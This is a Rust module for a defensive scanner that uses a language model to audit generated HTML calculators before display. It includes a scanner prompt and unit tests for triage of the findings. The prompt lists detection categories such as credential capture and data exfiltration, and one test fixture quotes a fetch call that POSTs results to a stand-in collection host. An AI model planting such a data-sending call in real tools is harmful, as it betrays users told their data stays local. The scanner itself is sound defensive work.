//! AI code scanner
//!
//! The second model pass: enumerate safety issues over the final HTML. The
//! response may be structured or free-form; triage decides what counts. The
//! fail-open/fail-closed choice on scanner unavailability belongs to the
//! caller, which knows the deployment's posture.

use serde_json::{json, Value};
use tracing::debug;

use calcsmith_gateway::{
    CallOptions, CompletionBackend, CompletionMessage, CompletionRequest, OutputFormat, TokenUsage,
};

use crate::triage::{triage_issues, CodeScanTriage};
use crate::ScanError;

pub const CODE_SCANNER_SYSTEM: &str = "\
You audit a single-file HTML calculator for safety before it is shown in a \
sandboxed iframe. List every issue you find as objects with category, \
message, and evidence (an exact quote from the document). Categories: \
networking, external_resource, dynamic_code, navigation, credential_capture, \
data_exfiltration, inline_script, inline_handler, unsafe_inline_csp, \
post_message.

The artifact is required to use inline scripts, inline event handlers, \
unsafe-inline CSP, and postMessage to its parent frame; report those under \
their own categories, not as risks. Return only JSON: \
{\"isSafe\": boolean, \"issues\": [...]}.";

/// Outcome of one code scan, after triage.
#[derive(Debug, Clone)]
pub struct CodeScanReport {
    pub triage: CodeScanTriage,
    /// The model's own safety claim; never trusted in isolation
    pub model_safe_flag: Option<bool>,
    pub usage: Option<TokenUsage>,
}

impl CodeScanReport {
    pub fn is_disallowed(&self) -> bool {
        self.triage.blocks()
    }
}

fn code_scan_schema() -> Value {
    json!({
        "type": "object",
        "additionalProperties": false,
        "required": ["isSafe", "issues"],
        "properties": {
            "isSafe": { "type": "boolean" },
            "issues": { "type": "array", "items": {} }
        }
    })
}

/// Scan final artifact HTML through the gateway and triage the findings.
pub async fn scan_generated_code<B: CompletionBackend>(
    backend: &B,
    model: &str,
    artifact_html: &str,
    banner_text: &str,
) -> Result<CodeScanReport, ScanError> {
    let request = CompletionRequest::new(model)
        .with_message(CompletionMessage::system(CODE_SCANNER_SYSTEM))
        .with_message(CompletionMessage::user(artifact_html))
        .with_max_output_tokens(1200)
        .with_output_format(OutputFormat::json_schema("code_scan", code_scan_schema()));

    let result = backend.call_value(request, CallOptions::default()).await?;

    // Tolerant read: isSafe and issues may be missing or oddly shaped.
    let model_safe_flag = result.parsed.get("isSafe").and_then(Value::as_bool);
    let issues: Vec<Value> = result
        .parsed
        .get("issues")
        .and_then(Value::as_array)
        .cloned()
        .unwrap_or_default();

    debug!(issue_count = issues.len(), model_safe_flag, "code scan returned");
    let triage = triage_issues(&issues, model_safe_flag, banner_text);

    Ok(CodeScanReport { triage, model_safe_flag, usage: result.usage })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::ScriptedBackend;
    use calcsmith_gateway::GatewayError;

    const BANNER: &str =
        "This calculator runs locally in your browser and never sends data anywhere.";

    #[tokio::test]
    async fn test_clean_scan() {
        let backend = ScriptedBackend::new(vec![Ok(json!({"isSafe": true, "issues": []}))]);
        let report = scan_generated_code(&backend, "m", "<html></html>", BANNER).await.unwrap();
        assert!(!report.is_disallowed());
        assert_eq!(report.model_safe_flag, Some(true));
    }

    #[tokio::test]
    async fn test_validated_finding_blocks() {
        let backend = ScriptedBackend::new(vec![Ok(json!({
            "isSafe": false,
            "issues": [{
                "category": "networking",
                "message": "posts results to a remote host",
                "evidence": "fetch('https://collect.example', {method:'POST'})"
            }]
        }))]);
        let report = scan_generated_code(&backend, "m", "<html></html>", BANNER).await.unwrap();
        assert!(report.is_disallowed());
    }

    #[tokio::test]
    async fn test_unsafe_flag_without_findings_does_not_block() {
        let backend = ScriptedBackend::new(vec![Ok(json!({
            "isSafe": false,
            "issues": ["something about this page feels wrong"]
        }))]);
        let report = scan_generated_code(&backend, "m", "<html></html>", BANNER).await.unwrap();
        assert!(!report.is_disallowed());
        assert_eq!(report.triage.uncategorized.len(), 1);
    }

    #[tokio::test]
    async fn test_missing_fields_tolerated() {
        let backend = ScriptedBackend::new(vec![Ok(json!({"verdict": "looks fine"}))]);
        let report = scan_generated_code(&backend, "m", "<html></html>", BANNER).await.unwrap();
        assert!(!report.is_disallowed());
        assert_eq!(report.model_safe_flag, None);
    }

    #[tokio::test]
    async fn test_gateway_failure_propagates() {
        let backend = ScriptedBackend::new(vec![Err(GatewayError::Transport("timeout".into()))]);
        let result = scan_generated_code(&backend, "m", "<html></html>", BANNER).await;
        assert!(matches!(result, Err(ScanError::Gateway(_))));
    }
}
